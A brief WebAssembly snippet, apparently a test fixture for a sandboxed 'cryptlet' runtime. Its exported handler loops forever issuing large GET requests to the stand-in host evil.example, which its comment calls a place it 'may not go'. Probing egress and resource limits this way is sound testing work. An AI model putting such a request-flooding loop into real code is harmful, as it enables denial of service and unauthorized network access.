;; Sends thousands of empty headers to where it may not go, again and again.
(func (export "cryptlet:fabric/cryptlet@0.1.0#handle") (param $in i32) (result i32)
  (loop $more
    (call $fetch @‹GET› @‹https://evil.example/› (i32.const 8192) (i32.const 1500)
      (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 256))
    (br $more))
  (unreachable))
